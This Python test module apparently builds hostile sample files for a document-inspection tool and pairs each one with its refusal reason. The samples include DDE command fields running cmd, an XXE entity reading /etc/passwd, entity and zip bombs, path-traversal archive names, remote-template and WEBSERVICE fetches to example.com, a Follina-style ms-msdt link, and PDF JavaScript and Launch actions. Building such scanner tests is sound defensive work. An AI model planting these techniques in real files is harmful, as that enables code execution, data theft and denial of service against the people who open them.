"""Files that want harm or cannot be read, each with the reason for which it must be refused."""

import io
import struct
import zipfile
from functools import cache, partial

import pikepdf

from sterktechniek.inspection.reasons import Reason
from sterktechniek.tests.office_files import (
    MICROSOFT,
    ODF,
    WORD,
    XML,
    X,
    document,
    docx,
    jpeg,
    links,
    odf,
    pdf,
    pdf_stream,
    png,
    png_block,
    types,
    xlsx,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY c "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><b>&c;</b>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a SYSTEM "file:///etc/passwd">]><b>&a;</b>'
DDE = "=cmd|'/c calc'!A0"


def run(*texts):
    """Runs with a piece of a field's instruction each."""
    return "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)


def field(inside):
    begin, apart, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
        for kind in ("begin", "separate", "end")
    )
    return f"<w:p>{begin}{inside}{apart}<w:r><w:t>x</w:t></w:r>{end}</w:p>"


def settings_with(target, mode="External"):
    found = links(("attachedTemplate", target, mode))
    return {"word/settings.xml": "<s/>", "word/_rels/settings.xml.rels": found}


def linked(kind, target, *mode):
    return docx(found=[(kind, target, *mode)])


def external_book(inside):
    return {
        "xl/externalLinks/externalLink1.xml": f"{XML}<externalLink {X}>{inside}</externalLink>"
    }


MACROS = {
    "docm as docx": docx(main="x", more={"[Content_Types].xml": types(**{"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"})}),
    "xlsm as xlsx": xlsx(main="x", more={"[Content_Types].xml": types(**{"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"})}),
    "vbaProject by name": docx(more={"word/vbaProject.bin": OLE}),
    "vbaProject renamed": linked(f"{MICROSOFT}vbaProject", "media/picture.png"),
    "vbaProject by type only": docx(more={"[Content_Types].xml": types(**{"word/document.xml": f"{WORD}document.main+xml", "word/p.bin": "application/vnd.ms-office.vbaProject"})}),
    "sheet of Excel 4 macros": xlsx(more={"xl/macrosheets/sheet1.xml": "<m/>"}),
    "Excel 4 macros renamed": xlsx(more={"xl/_rels/workbook.xml.rels": links((f"{MICROSOFT}xlMacrosheet", "worksheets/sheet2.xml"))}),
    "Basic in odt": odf(more={"Basic/Standard/Module1.xml": "<m/>"}),
    "Basic in ods": odf(kind="spreadsheet", more={"Basic/script-lc.xml": "<m/>"}),
    "Python in odt": odf(more={"Scripts/python/evil.py": "import os"}),
    "button that runs a macro": odf('<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'),
    "link to a macro": odf('<text:a xlink:href="vnd.sun.star.script:share/Library.x$go?language=Python">x</text:a>'),
    "link to an old macro": odf('<text:a xlink:href="macro:///Standard.Module1.Go">x</text:a>'),
    "script in the text": odf('<text:script script:language="JavaScript">alert(1)</text:script>'),
    "macro behind a menu": odf(more={"Configurations2/menubar/menubar.xml": '<m xmlns:n="m" n:id="vnd.sun.star.script:x"/>'}),
    "macro file in the manifest": odf(manifest='<manifest:file-entry manifest:full-path="Basic/Standard/x.xml"/>'),
}  # fmt: skip
OBJECTS = {
    "OLE object": docx(found=[("oleObject", "embeddings/oleObject1.bin")], more={"word/embeddings/oleObject1.bin": OLE}),
    "OLE object under another name": docx(more={"word/media/image1.png": OLE}),
    "ActiveX": docx(more={"word/activeX/activeX1.xml": "<a/>"}),
    "ActiveX renamed": linked("control", "other/control.xml"),
    "program in a docx": docx(more={"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 90}),
    "shell script in an odt": odf(more={"Pictures/a.png": b"#!/bin/sh\nrm -rf"}),
    "zip in a docx": docx(more={"word/embeddings/a.xlsx": zipped({"a.js": "alert(1)"})}),
    "OLE object in odt": odf('<draw:object-ole xlink:href="./Object 1"/>'),
    "applet in odt": odf('<draw:applet xlink:href="a.jar"/>'),
    "link to an OLE object": xlsx(more=external_book('<oleLink progId="x"/>')),
    "docx in docx in docx in docx": docx(more={"word/a.docx": docx(more={"word/b.docx": docx(more={"word/c.docx": docx()})})}),
}  # fmt: skip
COMMANDS = {
    "DDE in a field": docx(field(run("DDE cmd /c calc"))),
    "DDEAUTO in pieces": docx(field(run(" D", "DEAU", 'TO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    "ddeauto in small letters": docx(field(run("ddeauto cmd"))),
    "DDE in entities": docx(field(run("&#68;&#x44;E cmd"))),
    "DDE in a simple field": docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'),
    "DDE whose name comes from a field": docx(field(field(run("QUOTE 68 68 69")) + run(" cmd"))),
    "DDE in a field without end": docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + run("DDE cmd") + "</w:p>"),
    "DDE in a header": docx(more={"word/header1.xml": document(field(run("DDE cmd")))}),
    "DDE in another namespace prefix": docx(more={"word/footer1.xml": document(field(run("DDE x"))).replace("w:", "q:").replace("xmlns:w", "xmlns:q")}),
    "DDE in UTF-16": docx(more={"word/footer1.xml": document(field(run("DDE x"))).replace("UTF-8", "UTF-16").encode("utf-16")}),
    "DDE in a formula": xlsx(f"<c><f>{DDE}</f></c>"),
    "DDE in a formula as CDATA": xlsx("<c><f><![CDATA[cmd|' /C calc'!A0]]></f></c>"),
    "DDE in a formula with a prefix": xlsx("<c><f>SUM(1,MSEXCEL|'\\..\\..\\cmd.exe /c calc'!'')</f></c>"),
    "DDE link of a workbook": xlsx(more=external_book('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
    "DDE in ods": odf('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>', kind="spreadsheet"),
    "DDE source in ods": odf('<office:dde-source office:dde-application="cmd"/>', kind="spreadsheet"),
    "DDE in odt": odf('<text:dde-connection-decl office:dde-application="cmd"/>'),
}  # fmt: skip
FETCHES = {
    "template on the internet": docx(more=settings_with("https://example.com/x.dotm")),
    "template on a server": docx(more=settings_with("file:///\\\\10.0.0.1\\share\\x.dotm")),
    "template on a server, short": docx(more=settings_with("\\\\10.0.0.1\\share\\x.dotm")),
    "template in percent signs": docx(more=settings_with("%68ttps://example.com/x.dotm")),
    "template, EXTERNAL in capitals": docx(more=settings_with("http://example.com/x.dotm", "EXTERNAL")),
    "object on the internet (Follina)": linked("oleObject", "mhtml:http://example.com/x.html!x-usc:http://example.com/x.html", "External"),
    "picture on the internet": linked("image", "http://example.com/a.png", "External"),
    "frame on a server": linked("frame", "file://server/share/a.html", "External"),
    "link that runs": linked("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"),
    "link with script": linked("hyperlink", "javascript:alert(1)", "External"),
    "other workbook on the internet": xlsx(more={"xl/externalLinks/_rels/externalLink1.xml.rels": links(("externalLinkPath", "https://example.com/b.xlsx", "External"))}),
    "data connection": xlsx(more={"xl/connections.xml": f'{XML}<connections {X}><connection id="1"><dbPr connection="Provider=SQLOLEDB;Data Source=evil"/></connection></connections>'}),
    "web query": xlsx(more={"xl/connections.xml": f'{XML}<connections {X}><connection id="1"><webPr url="http://example.com"/></connection></connections>'}),
    "WEBSERVICE": xlsx('<c><f>_xlfn.WEBSERVICE("http://example.com/?"&amp;A1)</f></c>'),
    "INCLUDETEXT": docx(field(run('INCLUDETEXT "http://example.com/a"'))),
    "picture field on a server": docx(field(run('INCLUDEPICTURE "\\\\\\\\10.0.0.1\\\\a\\\\b.png"'))),
    "picture of odt on the internet": odf('<draw:image xlink:href="http://example.com/a.png" xlink:actuate="onLoad"/>'),
    "section of odt on a server": odf('<text:section-source xlink:href="//server/share/a.odt"/>'),
    "sheet of ods on the internet": odf('<table:table-source xlink:href="https://example.com/a.ods"/>', kind="spreadsheet"),
    "WEBSERVICE in ods": odf('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.com&quot;)"/>', kind="spreadsheet"),
    "link of odt that runs": odf('<text:a xlink:href="javascript:alert(1)">x</text:a>'),
}  # fmt: skip
XML_TRICKS = {
    "entity bomb": docx(more={"word/footer1.xml": BOMB}),
    "entity bomb in the list of types": docx(more={"[Content_Types].xml": BOMB}),
    "outside entity": docx(more={"docProps/core.xml": OUTSIDE}),
    "outside entity in odt": odf(more={"meta.xml": OUTSIDE}),
    "outside document type": xlsx(more={"xl/styles.xml": '<!DOCTYPE a SYSTEM "http://example.com/a.dtd"><a/>'}),
    "bomb in UTF-16": docx(more={"word/footer1.xml": BOMB.encode("utf-16")}),
    "bomb behind a comment": odf(more={"styles.xml": f"<!-- {'x' * 9000} -->" + BOMB[21:]}),
    "an encoding nobody uses": docx(more={"word/footer1.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
}  # fmt: skip


def with_bytes(data, place, new):
    return data[:place] + new + data[place + len(new) :]


def renamed(name, *, local=True):
    """A docx with a part of this name, in both headers or only in the directory."""
    stand_in = "word/" + "Z" * (len(name) - 5) if len(name) > 5 else "Z" * len(name)
    data = docx(more={stand_in: "x"})
    first, last = data.find(stand_in.encode()), data.rfind(stand_in.encode())
    new = name.encode("cp437")
    data = with_bytes(data, last, new)
    return with_bytes(data, first, new) if local else data


@cache
def bomb(size=300_000_000):
    """Spaces in the main part of a docx: a thousandth of its size."""
    data = io.BytesIO(docx())
    with (
        zipfile.ZipFile(data, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/spaces.xml", "w") as part,
    ):
        for _ in range(size // 1_000_000):
            part.write(b" " * 1_000_000)
    return data.getvalue()


def lying(data, part, offset, layout, value):
    """The same zip with another number in the directory, and in the local header, of a part."""
    where = data.rfind(part.encode()) - 46
    data = with_bytes(data, where + offset, struct.pack(layout, value))
    local = data.find(part.encode()) - 30
    return with_bytes(data, local + offset - 2, struct.pack(layout, value))


def hidden_bomb():
    """The same, but both headers speak of 900 bytes."""
    return lying(bomb(), "word/spaces.xml", 24, "<I", 900)


def overlapping():
    """Two names in the directory for the bytes of one part (as in the bomb of Fifield)."""
    data = docx()
    end = data.rfind(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", data, end + 12)
    entry = data[data.rfind(b"PK\x01\x02", 0, end) : end]
    name = struct.unpack_from("<H", entry, 28)[0]
    copy = entry[:46] + entry[46 : 46 + name][:-1] + b"Z" + entry[46 + name :]
    count = struct.unpack_from("<H", data, end + 10)[0] + 1
    tail = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size + len(copy), start, 0
    )
    return data[:end] + copy + tail


def many_parts(number, told=None):
    """Empty parts by the thousand; ``told`` is how many the end of the zip says there are."""
    names = [f"word/{place:06}.xml".encode() for place in range(number)]
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 15, 0)
    size = len(local) + 15
    entry = struct.Struct("<4s6H3I5H2I")
    directory = b"".join(
        entry.pack(
            b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 15, 0, 0, 0, 0, 0, place * size
        )
        + name
        for place, name in enumerate(names)
    )  # fmt: skip
    count = min(number if told is None else told, 0xFFFF)
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), number * size, 0
    )
    return b"".join(local + name for name in names) + directory + end


DOCX = docx()
ZIPS = {
    "bomb": (bomb, Reason.UNPACKS_TOO_LARGE),
    "bomb that hides its size": (hidden_bomb, Reason.DAMAGED),
    "part larger than it says": (lying(DOCX, "word/document.xml", 24, "<I", 20), Reason.DAMAGED),
    "part smaller than it says": (lying(DOCX, "word/document.xml", 24, "<I", 90_000), Reason.DAMAGED),
    "wrong checksum": (lying(DOCX, "word/document.xml", 16, "<I", 1), Reason.DAMAGED),
    "two names for the same bytes": (overlapping(), Reason.DAMAGED),
    "60,000 parts": (partial(many_parts, 60_000), Reason.TOO_MANY_PARTS),
    "more parts than a short zip can count": (partial(many_parts, 66_000), Reason.DAMAGED),
    "60,000 parts that say they are five": (partial(many_parts, 60_000, 5), Reason.TOO_MANY_PARTS),
    "path upwards": (renamed("../../../../etc/x"), Reason.UNSAFE_NAMES),
    "path from the root": (renamed("/etc/cron.d/evil"), Reason.UNSAFE_NAMES),
    "path of Windows": (renamed("..\\..\\evil.exe"), Reason.UNSAFE_NAMES),
    "path with a drive": (renamed("C:/Windows/a.exe"), Reason.UNSAFE_NAMES),
    "NUL in a name": (renamed("word/a\x00.bin"), Reason.UNSAFE_NAMES),
    "two headers, two names": (renamed("word/vb.xml", local=False), Reason.DAMAGED),
    "the same name twice": (docx(more={"Word/Document.xml": "<a/>"}), Reason.DAMAGED),
    "encrypted zip": (lying(DOCX, "word/document.xml", 8, "<H", 1), Reason.PASSWORD),
    "encrypted odt": (odf(manifest="<manifest:file-entry manifest:full-path='content.xml'><manifest:encryption-data/></manifest:file-entry>"), Reason.PASSWORD),
    "newly encrypted odt": (odf(more={"encrypted-package": b"\x01\x02"}), Reason.PASSWORD),
    "cut off": (DOCX[: len(DOCX) // 2], Reason.DAMAGED),
    "cut off at the end": (DOCX[:-4], Reason.DAMAGED),
    "unknown compression": (lying(DOCX, "word/document.xml", 10, "<H", 93), Reason.DAMAGED),
    "broken xml": (docx("<w:p>"), Reason.DAMAGED),
    "binary where xml is due": (docx(more={"word/footer1.xml": b"\x4c\x6f\xa7\x94"}), Reason.DAMAGED),
    "web page pasted in": (linked("aFChunk", "afchunk.mht"), Reason.PASTED_PAGE),
    "docx and odt at once": (docx(more={"mimetype": "application/vnd.oasis.opendocument.text"}), Reason.MIXED),
    "zip with something before it": (zipped({"a": "x"}) + DOCX, Reason.MIXED),
    "docx with something behind it": (DOCX + b"<script>alert(1)</script>", Reason.DAMAGED),
    "any zip": (zipped({"a.txt": "x"}), Reason.ARCHIVE),
    "jar": (zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), Reason.ARCHIVE),
    "template of Word": (docx(main="template.main+xml"), Reason.TEMPLATE),
    "binary workbook": (xlsx(main="x", more={"[Content_Types].xml": types(**{"xl/workbook.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"})}), Reason.BINARY_SHEET),
    "template of LibreOffice": (odf(kind="text-template"), Reason.TEMPLATE),
    "presentation of LibreOffice": (odf(kind="presentation"), Reason.PRESENTATION),
}  # fmt: skip


def action(name, rest=""):
    return f"<</S/{name}{rest}>>"


def packed_action(password=""):
    """A script in a packed object, found only by whoever unpacks (and decrypts) it."""
    made = pikepdf.open(
        io.BytesIO(
            pdf("<</S/JavaScript/JS(app.alert(1))>>", catalog="/OpenAction 4 0 R")
        )
    )
    data = io.BytesIO()
    lock = (
        {"encryption": pikepdf.Encryption(owner="eigenaar", user=password)}
        if password is not None
        else {}
    )
    made.save(data, object_stream_mode=pikepdf.ObjectStreamMode.generate, **lock)
    return data.getvalue()


def two_versions_of_an_object():
    """Without its table a reader guesses: the first object with this number, or the last."""
    made = pdf("<</S/JavaScript/JS(a())>>", catalog="/OpenAction 4 0 R")
    made = made.replace(b"xref\n0", b"4 0 obj\n[3 0 R /Fit]\nendobj\nxxxx\n0")
    return made


def enclosing(data, how=""):
    return pdf(
        "<</Type/Filespec/F(x)/EF<</F 5 0 R>>>>",
        pdf_stream(data, f"/Type/EmbeddedFile{how}"),
        catalog="/Names<</EmbeddedFiles<</Names[(x) 4 0 R]>>>>",
    )


def locked_pdf():
    data = io.BytesIO()
    made = pikepdf.open(io.BytesIO(pdf()))
    made.save(data, encryption=pikepdf.Encryption(owner="a", user="geheim"))
    return data.getvalue()


PDFS = {
    "script on opening": (pdf(catalog=f"/OpenAction{action('JavaScript', '/JS(app.alert(1))')}"), Reason.SCRIPT),
    "script of the document": (pdf("<</S/JavaScript/JS(app.alert(1))>>", catalog="/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"), Reason.SCRIPT),
    "script of a page": (pdf(page=f"/AA<</O{action('JavaScript', '/JS(x())')}>>"), Reason.SCRIPT),
    "script in a stream": (pdf("<</S/JavaScript/JS 5 0 R>>", pdf_stream(b"app.alert(1)"), catalog="/OpenAction 4 0 R"), Reason.SCRIPT),
    "script behind a formatting call": (pdf(page=f"/AA<</O{action('JavaScript', '/JS(AFNumber_Format(2, 0, 0, 0, evil(), true);)')}>>"), Reason.SCRIPT),
    "script in escaped names": (pdf(catalog="/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), Reason.SCRIPT),
    "script packed": (packed_action(None), Reason.SCRIPT),
    "script packed and encrypted": (packed_action(), Reason.SCRIPT),
    "script that only some readers see": (two_versions_of_an_object(), Reason.SCRIPT),
    "starts a program": (pdf(catalog=f"/OpenAction{action('Launch', '/F(cmd.exe)')}"), Reason.STARTS_PROGRAM),
    "starts a program behind a link": (pdf(page=f"/Annots[<</Subtype/Link/A{action('Launch', '/F(a.exe)')}>>]"), Reason.STARTS_PROGRAM),
    "goes to a page by itself": (pdf(catalog=f"/OpenAction{action('URI', '/URI(http://example.com)')}"), Reason.FETCHES),
    "sends a form by itself": (pdf(page=f"/AA<</O{action('SubmitForm', '/F(http://example.com)')}>>"), Reason.FETCHES),
    "imports data": (pdf(page=f"/Annots[<</Subtype/Link/A{action('ImportData', '/F(x)')}>>]"), Reason.FETCHES),
    "bytes from elsewhere": (pdf("<</Length 0/F(http://example.com/a)/FFilter/FlateDecode>>\nstream\n\nendstream"), Reason.FETCHES),
    "encloses a program": (enclosing(b"MZ\x90\x00" + b"\x00" * 99), Reason.ENCLOSURE),
    "encloses a page": (enclosing(b" " * 1500 + b"<html><script>alert(1)</script></html>"), Reason.ENCLOSURE),
    "encloses a document with macros": (enclosing(MACROS["vbaProject by name"]), Reason.ENCLOSURE),
    "film": (pdf(page="/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"), Reason.MEDIA),
    "old form": (pdf("<</XFA[(template) 5 0 R]/Fields[]>>", pdf_stream(b"<template/>"), catalog="/AcroForm 4 0 R"), Reason.OLD_FORM),
    "password": (locked_pdf(), Reason.PASSWORD),
    "page before the pdf": (b"%PDF-1.4 <html><script>alert(1)</script>" + pdf(), Reason.MIXED),
    "page behind the pdf": (pdf(tail=b"<html><script>alert(1)</script></html>"), Reason.MIXED),
    "zip behind the pdf": (pdf(tail=zipped({"a.js": "alert(1)"})), Reason.MIXED),
    "pdf without a page": (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", Reason.DAMAGED),
    "pdf cut off": (pdf()[:-30], Reason.DAMAGED),
}  # fmt: skip
HTML = b"<html><script>alert(1)</script></html>"
PICTURES = {
    "png with a page behind it": (png() + HTML, Reason.MIXED),
    "png with a page in its words": (png(more=png_block(b"tEXt", b"Comment\x00" + HTML)), Reason.MIXED),
    "png and zip at once": (png() + zipped({"a.js": "alert(1)"}), Reason.MIXED),
    "jpg with a page behind it": (jpeg() + HTML, Reason.MIXED),
    "jpg with a page in its words": (jpeg(comment=HTML), Reason.MIXED),
    "png of absurd size": (png(100_000, 100_000), Reason.PICTURE_TOO_LARGE),
    "png of absurd width": (png(4_000_000_000, 1), Reason.PICTURE_TOO_LARGE),
    "jpg of absurd size": (jpeg(65_000, 65_000), Reason.PICTURE_TOO_LARGE),
    "png without size": (png(0, 0), Reason.DAMAGED),
    "png cut off": (png()[:-20], Reason.DAMAGED),
    "png with a wrong checksum": (with_bytes(png(), 20, b"\x09"), Reason.DAMAGED),
    "jpg cut off": (jpeg()[:-2], Reason.DAMAGED),
    "jpg of nothing": (b"\xff\xd8\xff\xe0", Reason.DAMAGED),
}  # fmt: skip
KINDS = {
    "html": (HTML, Reason.WEB_PAGE),
    "html in UTF-16": (HTML.decode().encode("utf-16"), Reason.WEB_PAGE),
    "svg": (b"\xef\xbb\xbf <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", Reason.WEB_PAGE),
    "flat odt": (f"<office:document {ODF}/>".encode(), Reason.WEB_PAGE),
    "exe": (b"MZ\x90\x00" + b"\x00" * 100, Reason.PROGRAM),
    "elf": (b"\x7fELF" + b"\x00" * 100, Reason.PROGRAM),
    "shell script": (b"#!/bin/sh\necho", Reason.PROGRAM),
    "shortcut of Windows": (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, Reason.PROGRAM),
    "gif that is a script": (b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", Reason.PICTURE),
    "heic": (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 20, Reason.PICTURE),
    "webp": (b"RIFF\x00\x00\x00\x00WEBPVP8 ", Reason.PICTURE),
    "old office, or locked": (OLE, Reason.OLD_OFFICE),
    "rtf": (b"{\\rtf1\\ansi x}", Reason.RICH_TEXT),
    "rar": (b"Rar!\x1a\x07\x01\x00", Reason.ARCHIVE),
    "tar": (b"a".ljust(257, b"\x00") + b"ustar\x00", Reason.ARCHIVE),
    "text": (b"gewone tekst", Reason.UNKNOWN),
    "javascript": (b"alert(1)", Reason.UNKNOWN),
    "nul": (b"\x00", Reason.UNKNOWN),
}  # fmt: skip
#: name: (bytes, or what makes them because that takes a while; reason)
HOSTILE = {
    **{name: (data, Reason.MACROS) for name, data in MACROS.items()},
    **{name: (data, Reason.OBJECT) for name, data in OBJECTS.items()},
    **{name: (data, Reason.COMMAND) for name, data in COMMANDS.items()},
    **{name: (data, Reason.FETCHES) for name, data in FETCHES.items()},
    **{name: (data, Reason.DEFINITIONS) for name, data in XML_TRICKS.items()},
    **ZIPS,
    **PDFS,
    **PICTURES,
    **KINDS,
}
